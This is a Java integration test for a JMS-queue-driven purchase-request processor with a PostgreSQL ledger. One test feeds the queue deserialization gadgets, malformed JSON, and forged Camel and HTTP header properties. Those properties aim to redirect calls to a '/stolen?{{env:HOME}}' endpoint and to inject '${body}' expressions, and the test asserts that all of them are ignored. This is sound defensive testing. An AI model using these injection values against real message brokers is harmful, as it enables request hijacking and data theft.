package io.connectprocessor.journey;

import static org.assertj.core.api.Assertions.assertThat;

import io.connectprocessor.http.RecordingServer;
import io.connectprocessor.journey.Journey.Said;
import io.connectprocessor.ledger.Postgres;
import io.connectprocessor.queue.RestartableArtemis;
import io.connectprocessor.sandbox.Books;
import io.connectprocessor.sandbox.Fault;
import io.connectprocessor.sandbox.Sandbox;
import io.connectprocessor.sandbox.Seed;
import jakarta.jms.Connection;
import jakarta.jms.JMSException;
import jakarta.jms.Message;
import jakarta.jms.Session;
import jakarta.jms.TextMessage;
import java.io.IOException;
import java.io.ObjectInputStream;
import java.io.Serializable;
import java.net.ServerSocket;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.concurrent.Future;
import java.util.concurrent.atomic.AtomicInteger;
import org.apache.activemq.artemis.jms.client.ActiveMQConnectionFactory;
import org.awaitility.Awaitility;
import org.awaitility.core.ConditionFactory;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;
import org.junit.jupiter.api.io.TempDir;

/** The queue at a broker, by settings alone; the ledger on PostgreSQL. */
@ExtendWith(Postgres.class)
class BrokerJourneyTest {

    private static final String QUEUE = "connect.requests";

    @TempDir
    Path folder;

    private final Postgres.Database database;
    private RestartableArtemis broker;

    BrokerJourneyTest(Postgres.Database database) {
        this.database = database;
    }

    @BeforeEach
    void make() throws IOException {
        broker = new RestartableArtemis(folder.resolve("broker"));
    }

    @AfterEach
    void stop() throws Exception {
        broker.close();
    }

    private Journey node(String name, Sandbox sandbox) throws IOException {
        return new Journey(Files.createDirectory(folder.resolve(name)), sandbox)
                .set("ledger.url", database.url())
                .set("ledger.lease", "5s")
                .set("queue.requests", "jms:queue:" + QUEUE)
                .set("queue.broker-url", broker.url())
                .set("queue.user", RestartableArtemis.USER)
                .set("queue.password", RestartableArtemis.PASSWORD)
                .set("retry.first-delay", "200ms")
                .set("process.concurrency", "8");
    }

    private static ConditionFactory eventually(String what) {
        return Awaitility.await(what).atMost(Duration.ofSeconds(60)).pollInterval(Duration.ofMillis(50));
    }

    @Test
    void three_nodes_share_one_queue_and_do_nothing_twice() throws Exception {
        broker.start();
        try (Sandbox sandbox = Sandbox.builder()
                .seed(Seed.scale(200, 10, 5))
                .latency(Duration.ofMillis(40))
                .fault(Fault.replyLost().withProbability(0.01).withSeed(5))
                .start()) {
            ExecutorService nodes = Executors.newFixedThreadPool(3);
            List<Future<Integer>> ends = new ArrayList<>();
            List<Journey> journeys = new ArrayList<>();
            for (String name : List.of("one", "two", "three")) {
                Journey node = node(name, sandbox).set("queue.depth", "60");
                journeys.add(node);
                ends.add(nodes.submit(() -> node.run("run", "--once")));
            }
            for (int i = 0; i < 3; i++) {
                assertThat(ends.get(i).get()).as(journeys.get(i).out()).isZero();
            }
            nodes.shutdown();

            Books books = sandbox.books();
            assertThat(books.decided()).hasSize(220);
            assertThat(books.repeatedVendorEffects()).isEmpty();
            assertThat(books.doubleActions()).isEmpty();
            assertThat(books.orderViolations()).isEmpty();
            assertThat(journeys).allSatisfy(node -> assertThat(node.out()).containsPattern("all +[1-9][0-9]+"));
            assertThat(database.rows("select id from ledger_request where queued_until is not null"))
                    .isEmpty();
            assertThat(broker.messages(QUEUE)).isZero();
        }
    }

    @Test
    void a_broker_that_is_away_is_waited_for_and_named_by_its_key() throws Exception {
        try (Sandbox sandbox = Sandbox.builder().start()) {
            String pending = sandbox.seed().purchase().pending();
            Said said = node("once", sandbox).set("once.wait", "1s").say("run", "--once");

            assertThat(said.code()).as(said.err()).isEqualTo(4);
            assertThat(said.out()).contains("exit code 4", "queue.broker-url", broker.url(), "cannot be reached");

            try (Background running = new Background(node("run", sandbox))) {
                assertThat(running.readiness()).contains("queue.broker-url", "\"DOWN\"");
                assertThat(running.get("live").statusCode()).isEqualTo(200);
                broker.start();

                eventually("the request").until(() -> status(sandbox, pending).equals("approved"));
                eventually("readiness").until(() -> running.get("ready").statusCode() == 200);
                broker.stop();
                eventually("no readiness").until(() -> running.readiness().contains("queue.broker-url"));
                String later = sandbox.seed().purchase().pending();
                broker.start();

                eventually("the later request")
                        .until(() -> status(sandbox, later).equals("approved"));
                eventually("readiness again").until(() -> running.get("ready").statusCode() == 200);
                assertThat(sandbox.books().repeatedVendorEffects()).isEmpty();
            }
        }
    }

    /** {@code run} in a thread of its own. */
    private static final class Background implements AutoCloseable {
        private final int port;
        private final ExecutorService thread = Executors.newSingleThreadExecutor();
        private final Future<Integer> end;
        private final HttpClient http = HttpClient.newHttpClient();

        Background(Journey node) throws IOException {
            try (ServerSocket free = new ServerSocket(0)) {
                port = free.getLocalPort();
            }
            node.set("poll.cron", "0/1 * * * * ?").set("management.port", String.valueOf(port));
            end = thread.submit(() -> node.run("run"));
            eventually("the management server")
                    .ignoreExceptions()
                    .until(() -> get("live").statusCode() == 200);
        }

        HttpResponse<String> get(String check) throws Exception {
            return http.send(
                    HttpRequest.newBuilder(URI.create("http://127.0.0.1:" + port + "/observe/health/" + check))
                            .timeout(Duration.ofSeconds(10))
                            .build(),
                    HttpResponse.BodyHandlers.ofString());
        }

        String readiness() throws Exception {
            return get("ready").body();
        }

        @Override
        public void close() {
            thread.shutdownNow();
            eventually("the stop").until(end::isDone);
        }
    }

    private static String status(Sandbox sandbox, String id) {
        return String.valueOf(sandbox.requestJson(id).get("status"));
    }

    @Test
    void a_refused_password_is_named_by_its_key_and_not_shown() throws Exception {
        broker.start();
        try (Sandbox sandbox = Sandbox.builder().start()) {
            sandbox.seed().purchase().pending();
            Said said = node("once", sandbox)
                    .set("queue.password", "wrong-and-secret")
                    .set("once.wait", "1s")
                    .say("run", "--once");

            assertThat(said.code()).as(said.err()).isEqualTo(4);
            assertThat(said.out()).contains("exit code 4", "queue.password", "refuses");
            assertThat(said.out() + said.err()).doesNotContain("wrong-and-secret");
            assertThat(sandbox.books().vendorCallsInAll()).isZero();
        }
    }

    /** Tells when it is deserialized. */
    static final class Gadget implements Serializable {
        private static final long serialVersionUID = 1;
        static final AtomicInteger OPENED = new AtomicInteger();

        private void readObject(ObjectInputStream in) {
            OPENED.incrementAndGet();
        }
    }

    @Test
    void what_others_put_into_the_queue_is_never_opened_leads_nowhere_and_stops_nobody() throws Exception {
        broker.start();
        try (Sandbox sandbox = Sandbox.builder().start();
                ActiveMQConnectionFactory factory = new ActiveMQConnectionFactory(
                        broker.url(), RestartableArtemis.USER, RestartableArtemis.PASSWORD);
                Connection connection = factory.createConnection();
                Session session = connection.createSession(false, Session.AUTO_ACKNOWLEDGE);
                RecordingServer elsewhere = new RecordingServer()) {
            var sender = session.createProducer(session.createQueue(QUEUE));
            sender.send(session.createObjectMessage(new Gadget()));
            sender.send(session.createStreamMessage());
            sender.send(session.createMapMessage());
            sender.send(session.createMessage());
            String pending = sandbox.seed().purchase().item("SEAT", "10").pending();
            for (String text : List.of(
                    "no request",
                    "",
                    "null",
                    "[]",
                    "{\"id\": 7}",
                    "{\"id\": \"..\"}",
                    "{\"id\": \"PR-0000-0000-0000-000\"}",
                    "{\"id\": \"" + pending + "\", \"type\": \"cancel\", \"status\": \"approved\"}",
                    "[".repeat(100_000))) {
                sender.send(forged(session.createTextMessage(text), elsewhere));
            }

            assertThat(node("once", sandbox).run("run", "--once")).isZero();

            assertThat(status(sandbox, pending)).isEqualTo("approved");
            assertThat(sandbox.vendorBodies(pending)).singleElement().satisfies(call -> {
                assertThat(call.path()).endsWith("/subscriptions");
                assertThat(call.body()).contains("\"10\"");
            });
            assertThat(sandbox.books().repeatedVendorEffects()).isEmpty();
            assertThat(broker.messages(QUEUE)).isZero();
            assertThat(Gadget.OPENED).hasValue(0);
            assertThat(elsewhere.received()).isEmpty();
        }
    }

    /** With all that JMS lets stand in a property's name, and answers wanted elsewhere. */
    private static Message forged(TextMessage message, RecordingServer elsewhere) throws JMSException {
        for (String name : List.of(
                "CamelHttpUri",
                "CamelRestHttpUri",
                "CamelHttpPath",
                "CamelHttpQuery",
                "CamelHttpMethod",
                "CamelJmsDestinationName",
                "CamelFileName",
                "CamelBeanMethodName",
                "Authorization",
                "Content_HYPHEN_Type",
                "Idempotency_HYPHEN_Key",
                "ConnectRequestId",
                "ConnectRequestKind",
                "ConnectAskedAt",
                "ConnectSeal",
                "ConnectFailure",
                "ConnectClaimedRequest",
                "JMSXGroupID")) {
            message.setStringProperty(name, elsewhere.url() + "/stolen?{{env:HOME}}");
        }
        message.setJMSType("${body}");
        message.setJMSCorrelationID("${body}");
        return message;
    }
}
